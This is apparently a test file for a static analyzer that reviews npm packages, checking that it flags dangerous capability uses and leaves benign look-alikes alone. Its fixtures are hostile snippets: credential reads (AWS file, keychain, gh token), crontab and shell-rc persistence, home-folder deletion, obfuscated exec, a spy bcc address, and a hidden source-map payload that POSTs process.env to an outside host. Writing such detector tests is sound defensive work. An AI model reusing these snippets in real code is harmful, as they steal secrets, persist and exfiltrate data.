/**
 * Source → capability uses, as a table: each family of the catalogue reached through the ways code
 * names things (imports, requires, aliases, destructuring, factories, classes, bundler wrappers,
 * computed keys, `.call`), with its target resolved; and benign look-alikes that reach nothing.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { withLimits } from "../../src/common/limits.js";
import { factsCache, loadedDataFiles } from "../../src/review/facts/cache.js";
import { analyzeJs } from "../../src/review/facts/collect.js";
import { makeSnapshot, readPackageFile } from "../../src/review/files.js";

type Expect = {
  row: string;
  family?: string;
  target?: string | RegExp;
  pathClass?: string;
  program?: string;
  fromText?: boolean;
};

const uses = (src: string, path = "index.js") =>
  analyzeJs(src, path).capabilities.filter((u) => !u.row.startsWith("module:"));

const flagged: [string, string, Expect][] = [
  // network
  [
    "http2 through a renamed import",
    `import { connect as c } from "node:http2"; c("https://x.example");`,
    { row: "http2.connect", target: "https://x.example" },
  ],
  [
    "tls through require",
    `const tls = require("tls"); tls.connect({ host: "h.example", port: 443 });`,
    { row: "tls.connect", target: "h.example" },
  ],
  [
    "dgram socket send",
    `const d = require("dgram"); const s = d.createSocket("udp4"); s.send(buf, 53, "1.2.3.4");`,
    { row: "dgram#createSocket.send" },
  ],
  [
    "DNS TXT query with data in the name",
    `import dns from "node:dns/promises"; await dns.resolveTxt(secret + ".t.example");`,
    { row: "dns/promises.resolveTxt", target: /\.t\.example$/ },
  ],
  [
    "global WebSocket",
    `const w = new WebSocket("wss://c2.example/s");`,
    { row: "global:WebSocket", target: "wss://c2.example/s" },
  ],
  [
    "global EventSource",
    `new EventSource("https://e.example/?d=" + x);`,
    { row: "global:EventSource", target: /^https:\/\/e\.example/ },
  ],
  [
    "globalThis.fetch with a computed key",
    `globalThis["fe" + "tch"]("https://f.example");`,
    { row: "global:fetch" },
  ],
  [
    "undici request",
    `import { request } from "undici"; await request("https://u.example");`,
    { row: "undici.request" },
  ],
  ["ws module class", `import WebSocket from "ws"; new WebSocket("wss://w.example");`, { row: "ws.default" }],
  [
    "axios instance",
    `const axios = require("axios"); const api = axios.create(); api.post("https://a.example", d);`,
    { row: "axios#create.post" },
  ],
  [
    "bundler interop wrapper",
    `var import_https = __toESM(require("https")); (0, import_https.request)("https://b.example");`,
    { row: "https.request" },
  ],
  [
    "nodemailer transport kept on this",
    `const nm = require("nodemailer"); class M { constructor(){ this.t = nm.createTransport({}); } go(){ return this.t.sendMail({ to }); } }`,
    { row: "nodemailer#createTransport.sendMail" },
  ],
  [
    "SES command",
    `import { SESClient, SendEmailCommand } from "@aws-sdk/client-ses"; new SendEmailCommand({ Destination: {} });`,
    { row: "@aws-sdk/client-ses.SendEmailCommand" },
  ],
  [
    "Resend client",
    `import { Resend } from "resend"; const r = new Resend(k); r.emails.send({ to });`,
    { row: "resend#new Resend.emails.send" },
  ],
  [
    "Postmark client",
    `const postmark = require("postmark"); const c = new postmark.ServerClient(t); c.sendEmail(m);`,
    { row: "postmark#new ServerClient.sendEmail" },
  ],
  [
    "Mailgun client",
    `import Mailgun from "mailgun.js"; const mg = new Mailgun(FormData).client({}); mg.messages.create(d, m);`,
    { row: "mailgun.js#client.messages.create" },
  ],
  [
    "Slack web client",
    `const { WebClient } = require("@slack/web-api"); const s = new WebClient(t); s.chat.postMessage({ channel });`,
    { row: "@slack/web-api#new WebClient.chat.postMessage" },
  ],
  [
    "sendBeacon",
    `navigator.sendBeacon("https://s.example", JSON.stringify(d));`,
    { row: "global:navigator.sendBeacon" },
  ],
  // programs and code
  [
    "exec through destructuring",
    `const { exec: run } = require("child_process"); run("git credential fill");`,
    { row: "child_process.exec", program: "git-credential" },
  ],
  [
    "execFile with argv",
    `import cp from "node:child_process"; cp.execFile("gh", ["auth", "token"]);`,
    { row: "child_process.execFile", program: "gh-token" },
  ],
  [
    "spawn through .call",
    `const cp = require("child_process"); cp.spawn.call(cp, "security find-generic-password -w");`,
    { row: "child_process.spawn", program: "macos-keychain" },
  ],
  [
    "crontab persistence",
    `require("child_process").execSync("(crontab -l; echo '@reboot x') | crontab -");`,
    { row: "child_process.execSync", program: "crontab" },
  ],
  [
    "require of a computed name",
    `const m = require(["child", "process"].join("_")); m.exec(cmd);`,
    { row: "child_process.exec" },
  ],
  [
    "createRequire",
    `import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process").spawn(c);`,
    { row: "child_process.spawn" },
  ],
  [
    "a local loader wrapper",
    `const load = (n) => (process.getBuiltinModule ? process.getBuiltinModule(n) : require(n)); load("node:" + ["child", "process"].join("_")).spawn(process.execPath, ["-"]);`,
    { row: "child_process.spawn", target: "node -" },
  ],
  [
    "dynamic import awaited",
    `const cp = await import("node:child_process"); cp.execSync(c);`,
    { row: "child_process.execSync" },
  ],
  [
    "Worker from text",
    `const { Worker } = require("worker_threads"); new Worker(code, { eval: true });`,
    { row: "worker_threads.Worker", fromText: true },
  ],
  ["Module._load", `const Module = require("module"); Module._load(name);`, { row: "module._load" }],
  ["process.dlopen", `process.dlopen(module, "./x.node");`, { row: "global:process.dlopen" }],
  [
    "vm on built text",
    `import vm from "vm"; vm.runInThisContext(Buffer.from(s, "base64").toString());`,
    { row: "vm.runInThisContext", fromText: true },
  ],
  ["indirect eval", `(0, eval)(payload);`, { row: "global:eval", fromText: true }],
  // files
  [
    "credentials read by a joined home path",
    `import { readFileSync } from "fs"; import { homedir } from "os"; import { join } from "path"; readFileSync(join(homedir(), ".aws", "credentials"), "utf8");`,
    { row: "fs.readFileSync", target: "~/.aws/credentials", pathClass: "aws" },
  ],
  [
    "fs.promises write to a shell rc",
    `const fs = require("fs"); fs.promises.appendFile(require("os").homedir() + "/.zshrc", line);`,
    { row: "fs/promises.appendFile", pathClass: "shell-rc" },
  ],
  [
    "git hook written",
    `import { writeFileSync } from "node:fs"; writeFileSync(".git/hooks/post-checkout", script);`,
    { row: "fs.writeFileSync", pathClass: "git-hooks" },
  ],
  [
    "agent config written",
    `const fs = require("fs/promises"); await fs.writeFile(process.env.HOME + "/.cursor/mcp.json", cfg);`,
    { row: "fs/promises.writeFile", pathClass: "agent-config" },
  ],
  [
    "home folder removed",
    `import fs from "fs-extra"; import os from "os"; fs.removeSync(os.homedir());`,
    { row: "fs-extra.removeSync", pathClass: "root" },
  ],
  // secrets and environment
  [
    "diagnostics channel on other code's requests",
    `const dc = require("diagnostics_channel"); dc.subscribe("undici:request:create", f);`,
    { row: "diagnostics_channel.subscribe" },
  ],
  [
    "machine identity",
    `import os from "os"; const h = os.hostname();`,
    { row: "os.hostname", family: "environment" },
  ],
  [
    "zlib decoder",
    `const z = require("zlib"); z.inflateSync(Buffer.from(b, "base64"));`,
    { row: "zlib.inflateSync", family: "decode" },
  ],
  // the model
  [
    "MCP tool registration",
    `import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const s = new McpServer({}); s.registerTool("x", {}, h);`,
    { row: "@modelcontextprotocol/sdk/server/mcp.js#new McpServer.registerTool", family: "model" },
  ],
  [
    "execFile through util.promisify",
    `import { execFile } from "node:child_process"; import { promisify } from "node:util"; const run = promisify(execFile); run("git", ["blame", "x"]);`,
    { row: "child_process.execFile", family: "exec", target: "git blame x" },
  ],
  [
    "Module#_compile through CommonJS's own module.constructor",
    `const m = new module.constructor("x.js", module); m._compile(src, "x.js");`,
    { row: "module#new default._compile", family: "code" },
  ],
  [
    "_compile on a name a minifier reused in another scope",
    `const m = new module.constructor("x.js", module); m._compile(src, "x.js"); function f() { const m = Math.floor(2.5); return m; }`,
    { row: "module#new default._compile", family: "code" },
  ],
  [
    "_compile on an object of unknown origin",
    `function load(m, src) { m._compile(src, "x.js"); }`,
    { row: "chain:_compile", family: "code" },
  ],
  [
    "_compile on an object of unknown origin, beside a decoy method of that name",
    `const decoy = { _compile() {} }; function load(m, src) { m._compile(src, "x.js"); }`,
    { row: "chain:_compile", family: "code" },
  ],
  [
    "Function's body is its last argument",
    `const f = new Function("a", "b", payload); f(1, 2);`,
    { row: "global:Function", family: "code", target: "…", fromText: true },
  ],
  [
    "require under another name, the name reused by a parameter and a caught error (flatmap-stream)",
    `!function(){try{var r=require;function e(r){return Buffer.from(r,"hex").toString()}r(e("6368696c645f70726f63657373")).exec("id")}catch(r){}}();`,
    { row: "child_process.exec", family: "exec", target: "id" },
  ],
  [
    "CommonJS's Module class built by hand, whatever is called on it",
    `var f = new module.constructor; f.paths = module.paths; f[k](a, "");`,
    { row: "global:module.constructor", family: "code" },
  ],
  [
    "crypto.createDecipher (Node 20)",
    `const c = require("crypto"); const d = c.createDecipher("aes256", key);`,
    { row: "crypto.createDecipher", family: "decode" },
  ],
  // environment that steers other code
  [
    "NODE_OPTIONS by assignment, built from a constant",
    `const P = "~/.cache/t.js"; process.env.NODE_OPTIONS = "--require " + P;`,
    { row: "env:NODE_OPTIONS", family: "code", target: "--require ~/.cache/t.js" },
  ],
  [
    "a proxy by Object.assign on process.env",
    `Object.assign(process.env, { HTTPS_PROXY: "http://203.0.113.7:3128" });`,
    { row: "env:HTTPS_PROXY", family: "network", target: "http://203.0.113.7:3128" },
  ],
  [
    "GIT_SSH_COMMAND in a spawn's env option",
    `import { spawn } from "node:child_process"; spawn("git", ["push"], { env: { ...process.env, GIT_SSH_COMMAND: "ssh -i ~/.cache/k" } });`,
    { row: "env:GIT_SSH_COMMAND", family: "exec", target: "ssh -i ~/.cache/k" },
  ],
];

const benign: [string, string][] = [
  [
    "NODE_OPTIONS that loads no code",
    `process.env.NODE_OPTIONS = "--no-deprecation --max-old-space-size=4096";`,
  ],
  ["TLS checks left on", `process.env.NODE_TLS_REJECT_UNAUTHORIZED = "1";`],
  ["a local function named like a sink", `function exec(q) { return q; } exec("rm -rf /");`],
  ["a parameter shadows the global", `function f(fetch) { return fetch("https://x.example"); }`],
  ["RegExp exec", `const re = /a/; re.exec("abc");`],
  [
    "a name bound to two modules is not trusted",
    `let m = require("child_process"); m = require("path"); m.exec("x");`,
  ],
  ["an object's own method", `const api = { request(u) { return u; } }; api.request("https://x.example");`],
  ["path.join alone", `import { join } from "path"; join(__dirname, "data.json");`],
  [
    "a class calling its own _compile (ajv)",
    `class Ajv { _compile(s) { return s; } get(s) { return this._compile(s); } }`,
  ],
  [
    "its own _compile through a name bound to this",
    `function A() { var i = this; i._compile = function (s) { return s; }; i._compile(1); }`,
  ],
];

describe("capability uses, from the catalogue", () => {
  for (const [name, src, e] of flagged)
    it(`flags: ${name}`, () => {
      const found = uses(src, name.includes("import") || src.includes("import ") ? "index.mjs" : "index.js");
      const u = found.find((x) => x.row === e.row);
      assert.ok(u, `expected ${e.row} in ${JSON.stringify(found.map((x) => x.row))}`);
      if (e.family) assert.equal(u.family, e.family);
      if (typeof e.target === "string") assert.equal(u.target, e.target);
      else if (e.target) assert.match(u.target ?? "", e.target);
      if (e.pathClass) assert.equal(u.pathClass, e.pathClass);
      if (e.program) assert.equal(u.program?.id, e.program);
      if (e.fromText !== undefined) assert.equal(u.fromText, e.fromText);
    });
  for (const [name, src] of benign)
    it(`leaves alone: ${name}`, () => {
      const found = uses(src, "index.mjs").filter((u) => u.family !== "environment");
      assert.deepEqual(
        found.map((u) => u.row),
        [],
      );
    });
  it("loading a catalogued module is a use of its family", () => {
    const all = analyzeJs(`const cp = require("child_process");`, "a.js").capabilities;
    assert.ok(all.some((u) => u.row === "module:child_process" && u.family === "exec"));
  });
});

describe("recipients written another way", () => {
  const spy = "spy@evil.example.net";
  const cases: [string, string][] = [
    ["Object.defineProperty value", `Object.defineProperty(msg, "bcc", { value: "${spy}" });`],
    ["Object.defineProperty getter", `Object.defineProperty(msg, "bcc", { get() { return "${spy}"; } });`],
    ["a class getter", `class M { get bcc() { return "${spy}"; } }`],
    ["an object getter", `const o = { get bcc() { return "${spy}"; } };`],
    ["a computed key", `msg["b" + "cc"] = "${spy}";`],
    ["Reflect.set", `Reflect.set(msg, "bcc", "${spy}");`],
    ["an SMTP envelope", `transport.sendMail({ envelope: { from: "a@b.example.net", to: ["${spy}"] } });`],
    ["SES BccAddresses", `new SendEmailCommand({ Destination: { BccAddresses: ["${spy}"] } });`],
    [
      "a push onto the recipient list",
      `export function send(args) { const rcpt = [args.to]; rcpt.push("${spy}"); return t.sendMail({ to: rcpt }); }`,
    ],
    [
      "an unshift, built",
      `const to = []; to.unshift(["spy", "evil.example.net"].join("@")); t.sendMail({ to });`,
    ],
  ];
  for (const [name, src] of cases)
    it(`reads a recipient set by ${name}`, () => {
      const keyed = analyzeJs(src, "index.js").keyed;
      assert.ok(
        keyed.some((k) => k.value?.includes(spy)),
        JSON.stringify(keyed),
      );
    });
});

describe("code kept in a source map the package reads", () => {
  const limits = withLimits({});
  const snapshot = (files: Record<string, string>) =>
    makeSnapshot(
      "p@1",
      new Map(
        Object.entries({ "package.json": '{"name":"p","version":"1.0.0"}', ...files }).map(([p, t]) => [
          p,
          readPackageFile(p, Buffer.from(t), 0o644, limits),
        ]),
      ),
      [],
    );
  const payload =
    'const https = require("https"); https.request({ host: "symbols.cdn-relay.net", method: "POST" }).end(JSON.stringify(process.env));';
  const map = JSON.stringify({
    version: 3,
    sources: ["../src/a.ts", "prelude.js"],
    sourcesContent: ["export const a = 1;", payload],
  });

  it("is reviewed as code when the code reads the map", () => {
    const b = snapshot({
      "dist/a.cjs":
        'const map = JSON.parse(require("fs").readFileSync(require("path").join(__dirname, "a.cjs.map"), "utf8"));\n//# sourceMappingURL=a.cjs.map\n',
      "dist/a.cjs.map": map,
    });
    const changed = [...b.files.values()].map((file) => ({ file }));
    const facts = factsCache(loadedDataFiles(b, changed as never), [b]);
    assert.ok(
      facts(b.files.get("dist/a.cjs.map")!)?.capabilities.some(
        (c) => c.family === "network" && c.target === "symbols.cdn-relay.net",
      ),
    );
  });

  it("is data when only the sourceMappingURL comment names it", () => {
    const b = snapshot({
      "dist/a.cjs": "exports.a = 1;\n//# sourceMappingURL=a.cjs.map\n",
      "dist/a.cjs.map": map,
    });
    const changed = [...b.files.values()].map((file) => ({ file }));
    assert.deepEqual([...loadedDataFiles(b, changed as never)], []);
  });
});
